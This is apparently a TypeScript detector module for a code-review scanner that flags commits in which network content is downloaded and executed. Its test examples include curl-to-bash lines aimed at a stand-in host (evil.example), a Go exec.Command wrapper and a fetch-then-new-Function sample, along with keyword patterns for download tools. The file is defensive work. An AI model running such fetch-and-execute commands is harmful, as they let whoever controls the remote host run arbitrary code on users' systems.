import { z } from "zod";
import { defineDetector, type Signal } from "../../model/detector.ts";
import type { CommitEvidence, FileChange, Line } from "../../model/evidence.ts";
import { aChange, aCommit, aFile } from "../../model/examples.ts";
import { addedSinks } from "../../text/added-sinks.ts";
import { STARTS_PROCESS } from "../../text/calls.ts";
import { clip } from "../../text/clip.ts";
import { readCommand } from "../../text/commands.ts";
import { visible } from "../../text/lines.ts";
import { newCode, newText } from "../../text/new-lines.ts";
import { classesOf } from "../../text/path-classes.ts";
import { isIdle, type Place, placeOf, RUN_BY_TOOLS } from "../../text/places.ts";
import { swappedSource } from "../../text/swapped-source.ts";
import { urlsIn } from "../../text/url.ts";
import { withoutPatterns } from "../../text/without-patterns.ts";

const PIPE = ["| ba", "sh"].join("");

export default defineDetector({
  id: "download-and-execute",
  title: "Something is fetched from the network and run",
  family: "content",
  axis: "attack",
  group: "payload",
  stage: "stable",
  since: "0.1.0",
  rationale:
    "What is fetched when a program runs is in no commit: whoever owns the other end decides what happens, today and tomorrow, and no review sees it.",
  falsePositives: [
    "Set-up scripts that install a tool as its own manual says, from a host we do not know",
    "Image and pipeline definitions that build their own environment",
  ],
  remedy:
    "Look at what the address hands out, and who owns it. Pin a version and check its digest, or take the code into the repository.",
  references: [
    "CWE-494",
    "CWE-829",
    "ATT&CK T1105 Ingress Tool Transfer",
    "Shai-Hulud 2025",
    "Amazon Q 2025",
    "hackerbot-claw 2026",
  ],
  needs: ["diff", "content", "baseline"],
  options: z.strictObject({
    knownHosts: z
      .array(z.string().max(253))
      .max(200)
      .default([])
      .describe("further hosts that scripts may be fetched from"),
  }),
  examples: {
    flags: [
      {
        name: "a start function of a program that pipes a download to a shell",
        commit: aChange(
          "scripts/check/main.go",
          `	_ = exec.Command("bash", "-c", "curl -sSfL https://evil.example/x ${PIPE}").Run()`,
        ),
      },
      {
        name: "a script of the repository that runs what an unknown host hands out",
        commit: aChange("version.sh", `curl -sSfL https://evil.example/x ${PIPE}`),
      },
      {
        name: "text from the network run as code",
        commit: aCommit({
          files: [
            aFile({
              path: "src/load.js",
              added: "const code = await (await fetch(url)).text();\nnew Function(code)();",
              at: 5,
              facts: {
                script: {
                  language: "javascript",
                  by: "tree",
                  imports: [],
                  sinks: [
                    {
                      kind: "eval",
                      callee: "new Function",
                      line: 6,
                      from: ["network", "computed"],
                      text: "",
                      topLevel: true,
                    },
                  ],
                },
              },
            }),
          ],
        }),
      },
    ],
    passes: [
      {
        name: "a manual that tells people to do so",
        commit: aChange("README.md", `curl https://evil.example/install.sh ${PIPE}`),
      },
      {
        name: "a download that is only unpacked",
        commit: aChange("scripts/fetch.sh", "curl -L https://evil.example/data.tgz | tar xz"),
      },
      {
        name: "a message that tells people to do so",
        commit: aChange("src/hint.ts", `console.log("curl https://evil.example/install.sh ${PIPE}");`),
      },
    ],
  },
  detect(commit, { knownHosts }) {
    const hosts = new Set<unknown>();
    const found = commit.files.flatMap((file): Signal[] => {
      const place = placeOf(file.path);
      if (file.facts.workflow) return []; // workflows have a family of their own
      if (isIdle(place) && !(place === "data" && RUN_BY_TOOLS.test(file.path))) return [];
      if (
        !file.facts.script &&
        !/curl|wget|iwr|irm|Invoke-|Download|mshta|urlopen|fetch|https?:/i.test(newText(commit, file))
      )
        return [];
      const lines = newCode(commit, file);
      const own = lines.flatMap((line) => fromLine(commit, file, place, line, knownHosts));
      const seen = new Set(own.map(({ line }) => line));
      return [
        ...own,
        ...fromFacts(commit, file, place).filter(({ line }) => !seen.has(line)),
        ...swappedSource(file, place, lines),
      ].slice(0, 4);
    });
    // The same host a second time is the same fact.
    return found.filter(({ facts }) => {
      const host = facts?.host ?? null;
      if (host === null) return true;
      const first = !hosts.has(host);
      hosts.add(host);
      return first;
    });
  },
});

function fromLine(
  commit: CommitEvidence,
  file: FileChange,
  place: Place,
  line: Line,
  knownHosts: readonly string[],
): Signal[] {
  const text = withoutPatterns(visible(line), file.path);
  if (!/curl|wget|iwr|irm|Invoke-|Download|mshta|urlopen|fetch/i.test(text)) return [];
  const command = readCommand(text);
  if (!command.fetchesAndRuns) return [];
  const hosts = urlsIn(text).map(({ host }) => host);
  const known =
    command.knownSource ||
    (hosts.length > 0 &&
      hosts.every((host) => knownHosts.includes(host) || commit.baseline.repository.hosts.includes(host)));
  const inProgram = place === "code" && !classesOf(file.path).includes("script");
  // Only a call that starts a process does it; a text that shows the command does not.
  if (inProgram && !STARTS_PROCESS.test(text)) return [];
  if (/^\s{0,60}(?:echo|printf|print|log|info|warn|error|fail|die|abort|msg|note)\b/i.test(text)) return [];
  const because = `${clip(text, 90)} runs what ${hosts[0] ? clip(hosts[0], 60) : "an address put together at run time"} hands out`;
  const base = { because, path: file.path, line: line.number, facts: { place, known, host: hosts[0] ?? null } };
  if (known) return [{ ...base, strength: "weak", confidence: place === "script" || place === "test" ? 0.5 : 1 }];
  if (inProgram) return [{ ...base, strength: "decisive", confidence: 1 }];
  if (place === "test") return [{ ...base, strength: "medium", confidence: 0.7 }];
  const container =
    place === "data" || classesOf(file.path).includes("container") || classesOf(file.path).includes("workflow");
  return [
    {
      ...base,
      strength: container || hosts.length === 0 ? "medium" : "strong",
      confidence: container || hosts.length === 0 ? 0.7 : 1,
    },
  ];
}

function fromFacts(commit: CommitEvidence, file: FileChange, place: Place): Signal[] {
  return addedSinks(commit, file).flatMap((sink): Signal[] => {
    const runs =
      sink.kind === "eval" ||
      sink.kind === "require" ||
      (sink.kind === "spawn" && sink.topLevel && file.facts.script?.language !== "shell");
    if (!runs || !sink.from.includes("network") || /^\|/.test(sink.callee)) return [];
    const shell = file.facts.script?.language === "shell";
    const strong = sink.kind === "eval" && place !== "test" && !shell && file.facts.script?.by === "tree";
    return [
      {
        strength: strong ? "strong" : "medium",
        confidence: strong ? 1 : place === "test" ? 0.5 : shell || !sink.topLevel ? 0.6 : 0.9,
        because: `${clip(sink.callee, 40)} runs what came from the network`,
        path: file.path,
        line: sink.line,
        facts: { place },
      },
    ];
  });
}
